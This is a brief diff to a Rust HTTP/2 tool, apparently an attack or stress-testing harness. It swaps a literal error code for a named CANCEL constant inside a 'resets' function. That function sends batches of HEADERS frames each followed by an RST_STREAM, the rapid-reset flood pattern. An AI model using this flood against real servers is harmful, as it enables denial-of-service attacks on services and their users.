@@ -8,7 +8,8 @@ use tokio::io::{AsyncWriteExt, split};
 use crate::{
     attacker::{Attacker, until_closed},
     http2::{
-        CONTINUATION, END_HEADERS, HEADERS, INITIAL_WINDOW, PING, RST_STREAM, SETTINGS, Scheme, begin, fields, frame,
+        CANCEL, CONTINUATION, END_HEADERS, HEADERS, INITIAL_WINDOW, PING, RST_STREAM, SETTINGS, Scheme, begin, fields,
+        frame,
     },
 };
 
@@ -80,7 +81,7 @@ pub(super) fn resets(attacker: &Attacker) {
             for first in (1..u32::MAX >> 1).step_by(2 * BATCH as usize) {
                 let streams = (first..).step_by(2).take(BATCH as usize);
                 let pair = |stream| {
-                    let cancel = frame(RST_STREAM, 0, stream, &8_u32.to_be_bytes());
+                    let cancel = frame(RST_STREAM, 0, stream, &CANCEL.to_be_bytes());
                     [frame(HEADERS, END_HEADERS, stream, &block), cancel].concat()
                 };
                 attacker.requested(u64::from(BATCH));
